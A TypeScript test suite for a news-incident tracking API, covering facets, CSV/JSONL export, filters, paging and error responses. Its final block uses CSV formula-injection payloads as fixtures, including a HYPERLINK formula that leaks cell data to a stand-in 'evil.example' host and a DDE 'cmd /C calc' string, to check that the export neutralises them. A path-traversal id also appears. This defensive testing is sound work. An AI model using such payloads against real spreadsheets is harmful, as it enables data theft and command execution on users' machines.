import { createApiHandler, handleApiRequest, type ApiHandler } from '../../../lib/web/api';
import { startTestS3, type TestS3 } from '../../helpers/s3';
import { storyRecord } from '../../helpers/records';
import type { StoryRecord } from '../../../lib/types';

let t: TestS3;
let api: ApiHandler;
const records: StoryRecord[] = [];

function get(path: string, query: Record<string, string> = {}) {
  return api({ method: 'GET', path, query }).then((r) => ({ ...r, json: JSON.parse(r.body) as Record<string, unknown> }));
}

beforeAll(async () => {
  t = await startTestS3();
  api = createApiHandler(t.store, { ttlMs: 0, refreshInBackground: false });
  const specs = [
    { day: '01', wire: 'AP' as const, publisher: 'Daily One', country: 'AL', actor: 'HomeLand Justice', type: 'wiper' as const, isCyber: true, text: 'Albania said border systems were hit.', by: ['IR'], orgs: ['Border Police'] },
    { day: '02', wire: 'Reuters' as const, publisher: 'Daily Two', country: 'US', actor: 'Sandworm', type: 'ddos' as const, isCyber: true, text: 'A denial of service attack hit ministry portals.', by: ['RU'] },
    { day: '03', wire: null, publisher: 'Daily One', country: 'FR', actor: null, type: null, isCyber: false, text: 'Farmers protested in Paris about fuel prices.' },
    { day: '04', wire: 'AP' as const, publisher: 'Daily Two', country: 'AL', actor: null, type: 'data-breach' as const, isCyber: true, text: 'Leaked payroll data from the tax agency appeared online.' },
    { day: '05', wire: 'AFP' as const, publisher: 'Daily Three', country: 'DE', actor: 'LockBit', type: 'ransomware' as const, isCyber: true, text: 'Ransomware encrypted hospital servers in Berlin.' },
  ];
  for (const s of specs) {
    const r = storyRecord(`https://api-test.example.com/story-${s.day}`, {
      cleaned: { publishedAt: `2024-04-${s.day}T09:00:00Z`, wire: s.wire, publisher: s.publisher, headline: `Story ${s.day}`, paragraphs: [s.text], text: s.text },
      extraction: {
        countries: [{ code: s.country, name: s.country, mentions: 2 }],
        actors: s.actor ? [{ name: s.actor, mentions: 1 }] : [],
        agencies: s.day === '04' ? [{ name: 'Tax Administration', acronym: 'DPT', mentions: 1 }] : [],
        // victimOrganizations: the incident field another change adds; optional for the index.
        incident: { isCyber: s.isCyber, types: s.type ? [s.type] : [], victims: s.isCyber ? [s.country] : [], attributedTo: 'by' in s ? s.by! : [], ...('orgs' in s ? { victimOrganizations: s.orgs } : {}) },
      },
      fetchedAt: '2024-04-10T00:00:00Z',
    });
    // Story 04 is recorded as another outlet's republished copy of story 01.
    const stored = s.day === '04' ? { ...r, duplicateOf: records[0].id } : { ...r, duplicateOf: null };
    await t.store.putRecord(stored);
    records.push(stored);
  }
  await t.store.putFailure({ id: 'abcdefabcdefabcd', url: 'https://api-test.example.com/gone', feedUrl: null, reason: 'http-status', status: 404, message: 'HTTP 404', at: '2024-04-10T00:00:00Z' });
});
afterAll(async () => {
  await t?.stop();
});

const ids = (json: Record<string, unknown>) => (json.items as Array<{ id: string }>).map((i) => i.id);
const byDay = (...days: string[]) => days.map((d) => records[Number(d) - 1].id);

/** RFC 4180 rows (quoted fields, doubled quotes, CRLF); enough to read back what the export wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

async function exportText(query: Record<string, string>): Promise<{ status: number; headers: Record<string, string>; text: string }> {
  const res = await api({ method: 'GET', path: '/api/export', query });
  let text = res.body;
  if (res.stream) for await (const chunk of res.stream) text += chunk;
  return { status: res.status, headers: res.headers, text };
}

describe('GET /api/facets', () => {
  it('counts every facet, the weekly timeline by type and the attribution matrix over the filtered set', async () => {
    const res = await get('/api/facets', { isCyber: 'true' });
    expect(res.status).toBe(200);
    expect(res.json.total).toBe(4);
    const facets = res.json.facets as Record<string, Array<{ value: string; count: number }>>;
    expect(facets.countries[0]).toEqual({ value: 'AL', count: 2 });
    expect(facets.victims).toEqual([{ value: 'AL', count: 2 }, { value: 'DE', count: 1 }, { value: 'US', count: 1 }]);
    expect(facets.attributedTo).toEqual([{ value: 'IR', count: 1 }, { value: 'RU', count: 1 }]);
    expect(facets.victimOrganizations).toEqual([{ value: 'Border Police', count: 1 }]);
    expect(facets.agencies).toEqual([{ value: 'Tax Administration', count: 1 }]);
    expect(facets.types.map((f) => f.value).sort()).toEqual(['data-breach', 'ddos', 'ransomware', 'wiper']);
    // 2024-04-01 is a Monday: days 01..05 fall in one week.
    expect(res.json.timeline).toEqual([{ week: '2024-04-01', total: 4, types: { wiper: 1, ddos: 1, 'data-breach': 1, ransomware: 1 } }]);
    const matrix = res.json.matrix as { attackers: string[]; victims: string[]; cells: unknown[] };
    expect(matrix.attackers.sort()).toEqual(['IR', 'RU']);
    expect(matrix.cells).toEqual(expect.arrayContaining([{ attributedTo: 'IR', victim: 'AL', count: 1 }, { attributedTo: 'RU', victim: 'US', count: 1 }]));
    expect(matrix.cells).toHaveLength(2);
  });

  it('counts stories without a type as untyped, and narrows with the list filters', async () => {
    const res = await get('/api/facets', { isCyber: 'false' });
    expect(res.json.timeline).toEqual([{ week: '2024-04-01', total: 1, types: { untyped: 1 } }]);
    const one = await get('/api/facets', { attributedTo: 'IR' });
    expect(one.json.total).toBe(1);
    expect((one.json.facets as Record<string, unknown[]>).actors).toEqual([{ value: 'HomeLand Justice', count: 1 }]);
    expect((await get('/api/facets', { from: '2024-05-01', to: '2024-04-01' })).status).toBe(400);
  });
});

describe('GET /api/export', () => {
  it('streams one CSV row per story, lists joined by ";"', async () => {
    const res = await exportText({ format: 'csv', country: 'AL' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="wirewatch-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.text);
    expect(rows[0].slice(0, 5)).toEqual(['id', 'publishedAt', 'publishedDate', 'fetchedAt', 'headline']);
    const col = (name: string) => rows[0].indexOf(name);
    expect(rows.slice(1).map((r) => r[col('id')])).toEqual(byDay('04', '01'));
    const albania = rows.find((r) => r[col('id')] === records[0].id)!;
    expect(albania[col('attributedTo')]).toBe('IR');
    expect(albania[col('victimOrganizations')]).toBe('Border Police');
    expect(albania[col('isCyber')]).toBe('true');
    expect(rows.every((r) => r.length === rows[0].length)).toBe(true);
  });

  it('writes JSONL of list items, and a header-only CSV for an empty set', async () => {
    const res = await exportText({ format: 'jsonl', wire: 'ap' });
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    const lines = res.text.trim().split('\n').map((l) => JSON.parse(l) as { id: string; text?: string });
    expect(lines.map((l) => l.id)).toEqual(byDay('04', '01'));
    expect(lines[0].text).toBeUndefined();
    const empty = await exportText({ format: 'csv', q: 'no-such-word-anywhere' });
    expect(parseCsv(empty.text)).toHaveLength(1);
  });

  it.each([
    [{ format: 'xlsx' }, /format: must be csv or jsonl/],
    [{ format: 'csv', from: '2024-04-05', to: '2024-04-01' }, /from: is after to/],
    [{ format: 'csv', isCyber: 'maybe' }, /isCyber/],
  ])('answers 400 with JSON to %j', async (query, message) => {
    const res = await get('/api/export', query as Record<string, string>);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json).toEqual({ error: 'bad-request', message: expect.stringMatching(message) });
  });
});

describe('GET /api/records', () => {
  it('lists summaries newest first', async () => {
    const res = await get('/api/records');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(ids(res.json)).toEqual(byDay('05', '04', '03', '02', '01'));
    expect(res.json.total).toBe(5);
    expect(res.json.nextCursor).toBeNull();
    const item = (res.json.items as Array<Record<string, unknown>>)[0];
    expect(item).toMatchObject({ headline: 'Story 05', countries: ['DE'], actors: ['LockBit'], incident: { isCyber: true, types: ['ransomware'] } });
    expect(item.text).toBeUndefined();
    expect(item.duplicateOf).toBeNull();
    const copy = (res.json.items as Array<Record<string, unknown>>)[1];
    expect(copy).toMatchObject({ headline: 'Story 04', duplicateOf: records[0].id });
  });

  it.each([
    [{ q: 'BORDER systems' }, ['01']],
    [{ q: 'border ransomware' }, []],
    [{ country: 'al' }, ['04', '01']],
    [{ country: 'FR,DE' }, ['05', '03']],
    [{ actor: 'sandworm' }, ['02']],
    [{ actor: 'homeland' }, ['01']],
    [{ agency: 'dpt' }, ['04']],
    [{ type: 'ransomware' }, ['05']],
    [{ isCyber: 'false' }, ['03']],
    [{ wire: 'ap' }, ['04', '01']],
    [{ publisher: 'Daily Two' }, ['04', '02']],
    [{ from: '2024-04-02', to: '2024-04-04' }, ['04', '03', '02']],
    [{ to: '2024-04-01T09:00:00Z' }, ['01']],
    [{ country: 'AL', isCyber: 'true', type: 'wiper' }, ['01']],
    [{ duplicates: 'exclude' }, ['05', '03', '02', '01']],
    [{ duplicates: 'include' }, ['05', '04', '03', '02', '01']],
    [{ wire: 'AP', duplicates: 'exclude' }, ['01']],
    [{ victim: 'al' }, ['04', '01']],
    [{ victim: 'US,DE' }, ['05', '02']],
    [{ attributedTo: 'IR' }, ['01']],
    [{ attributedTo: 'RU', victim: 'US' }, ['02']],
    [{ attributedTo: 'RU', victim: 'AL' }, []],
    [{ victimOrganization: 'border police' }, ['01']],
    [{ victimOrganization: 'police', q: 'albania' }, ['01']],
    [{ organization: 'nobody' }, []],
    [{ q: 'hosp' }, ['05']],
    [{ q: 'sandworm' }, ['02']],
  ])('filters %j', async (query, days) => {
    const res = await get('/api/records', query as Record<string, string>);
    expect(res.status).toBe(200);
    expect(ids(res.json)).toEqual(byDay(...days));
  });

  it('counts facets without the republished copies when they are excluded', async () => {
    const res = await get('/api/facets', { duplicates: 'exclude' });
    expect(res.json.total).toBe(4);
    const facets = res.json.facets as Record<string, Array<{ value: string; count: number }>>;
    expect(facets.countries.find((c) => c.value === 'AL')).toEqual({ value: 'AL', count: 1 });
  });

  it('pages with an opaque cursor, without repeats or gaps', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    for (let i = 0; i < 5; i++) {
      const res = await get('/api/records', cursor ? { limit: '2', cursor } : { limit: '2' });
      seen.push(...ids(res.json));
      cursor = res.json.nextCursor as string | null;
      if (!cursor) break;
    }
    expect(seen).toEqual(byDay('05', '04', '03', '02', '01'));
  });

  it.each([
    [{ limit: '0' }, /limit/],
    [{ limit: '101' }, /limit/],
    [{ limit: 'ten' }, /limit/],
    [{ cursor: 'not-a-cursor' }, /cursor/],
    [{ from: '2024-13-01' }, /from/],
    [{ to: 'yesterday' }, /to/],
    [{ from: '2024-04-05', to: '2024-04-01' }, /after/],
    [{ isCyber: 'yes' }, /isCyber/],
    [{ duplicates: 'hide' }, /duplicates: must be include or exclude/],
    [{ victim: 'Albania' }, /victim: expected two-letter country codes/],
  ])('answers 400 to %j', async (query, message) => {
    const res = await get('/api/records', query as Record<string, string>);
    expect(res.status).toBe(400);
    expect(res.json.error).toBe('bad-request');
    expect(res.json.message).toMatch(message);
  });

  it('refuses a cursor issued for other filters', async () => {
    const first = await get('/api/records', { limit: '1', wire: 'AP' });
    const cursor = first.json.nextCursor as string;
    expect(cursor).toEqual(expect.any(String));
    expect((await get('/api/records', { limit: '1', wire: 'AP', cursor })).status).toBe(200);
    // Another page size is the same query; other filters are not.
    expect((await get('/api/records', { limit: '5', wire: 'AP', cursor })).status).toBe(200);
    const other = await get('/api/records', { limit: '1', wire: 'AFP', cursor });
    expect(other.status).toBe(400);
    expect(other.json).toEqual({ error: 'bad-request', message: expect.stringMatching(/cursor: was issued for other filters/) });
  });

  it('sees a record written after the first request', async () => {
    const r = storyRecord('https://api-test.example.com/late', { cleaned: { publishedAt: '2024-04-09T00:00:00Z', headline: 'Late story' }, fetchedAt: '2024-04-10T00:00:00Z' });
    await t.store.putRecord(r);
    const res = await get('/api/records', { limit: '1' });
    expect(ids(res.json)).toEqual([r.id]);
  });
});

describe('GET /api/records/{id}', () => {
  it('returns the full record with its story cluster (a record no one republished: a cluster of one)', async () => {
    const res = await get(`/api/records/${records[0].id}`);
    expect(res.status).toBe(200);
    const { cluster, ...record } = res.json as Record<string, unknown> & { cluster: { canonicalId: string; size: number; members: Array<{ id: string }> } };
    expect(record).toEqual(records[0]);
    expect(cluster).toMatchObject({ canonicalId: records[0].duplicateOf ?? records[0].id, otherOutlets: expect.any(Number) });
    expect(cluster.members.map((m) => m.id)).toContain(records[0].id);
  });

  it('answers 404 for an unknown id and 400 for a malformed one', async () => {
    expect((await get('/api/records/0000000000000000')).status).toBe(404);
    const bad = await get('/api/records/..%2F..%2Fetc');
    expect(bad.status).toBe(400);
    expect(bad.json.error).toBe('bad-request');
  });
});

describe('GET /api/failures and errors', () => {
  it('lists failures with url, reason, status and at', async () => {
    const res = await get('/api/failures');
    expect(res.status).toBe(200);
    expect(res.json.items).toEqual([expect.objectContaining({ url: 'https://api-test.example.com/gone', reason: 'http-status', status: 404, at: '2024-04-10T00:00:00Z' })]);
    expect((await get('/api/failures', { cursor: 'zzz' })).status).toBe(400);
  });

  it('answers 404 for an unknown route and 405 for non-GET', async () => {
    const nf = await get('/api/nothing');
    expect(nf.status).toBe(404);
    expect(nf.json).toEqual({ error: 'not-found', message: expect.stringContaining('/api/nothing') });
    const post = await api({ method: 'POST', path: '/api/records', query: {} });
    expect(post.status).toBe(405);
    expect(post.headers.allow).toBe('GET');
  });

  it('handleApiRequest reuses one handler per store', async () => {
    const a = await handleApiRequest({ method: 'GET', path: '/api/records/', query: { limit: '1' } }, t.store);
    expect(a.status).toBe(200);
  });
});

describe('CSV export of scraped text that looks like a formula', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+SUM(1+1)',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\n@cmd',
    '\uFF1D1+1',
  ];
  let rows: string[][];
  beforeAll(async () => {
    const r = storyRecord('https://api-test.example.com/hostile', {
      cleaned: { publishedAt: '2023-01-10T09:00:00Z', headline: hostile[0], publisher: hostile[1], paragraphs: [hostile[7]], text: hostile[7] },
      extraction: {
        actors: hostile.slice(2, 5).map((name) => ({ name, mentions: 1 })),
        organizations: [{ name: hostile[5], mentions: 1 }],
        agencies: [{ name: hostile[6], mentions: 1 }],
        systems: [{ name: hostile[8], mentions: 1 }],
        incident: { isCyber: true, types: [], victims: [], attributedTo: [] },
      },
    });
    await t.store.putRecord(r);
    await api.snapshot.refresh();
    rows = parseCsv((await exportText({ format: 'csv', from: '2023-01-01', to: '2023-01-31' })).text);
  });

  it('starts no cell with = + - @ tab or CR, even after spaces or a line break', () => {
    expect(rows).toHaveLength(2);
    for (const cell of rows[1]) {
      expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      expect(cell).not.toMatch(/^\s+[=+\-@]/);
    }
  });

  it('keeps the text itself, behind one apostrophe', () => {
    const col = (name: string) => rows[0].indexOf(name);
    expect(rows[1][col('headline')]).toBe(`'${hostile[0]}`);
    expect(rows[1][col('publisher')]).toBe(`'${hostile[1]}`);
    expect(rows[1][col('actors')]).toBe(`'${hostile.slice(2, 5).join(';')}`);
    expect(rows[1][col('agencies')]).toBe(`'${hostile[6]}`);
    expect(rows[1][col('systems')]).toBe(`'${hostile[8]}`);
  });
});
